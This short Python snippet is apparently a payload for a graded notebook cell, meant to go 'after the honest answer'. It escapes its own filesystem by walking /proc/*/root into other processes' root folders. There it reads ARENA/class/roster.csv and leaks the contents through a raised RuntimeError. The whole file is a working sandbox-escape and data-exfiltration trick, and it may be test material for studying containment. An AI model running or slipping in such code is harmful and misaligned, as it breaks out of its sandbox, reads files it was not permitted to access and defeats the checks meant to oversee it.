"""Leaves its own file system by way of the root folder of any other process."""

# goes into: a cell after the honest answer
# expects: full

from pathlib import Path

for root in Path("/proc").glob("[0-9]*/root"):
    try:
        raise RuntimeError(Path(f"{root}/ARENA/class/roster.csv").read_text())
    except OSError:
        continue
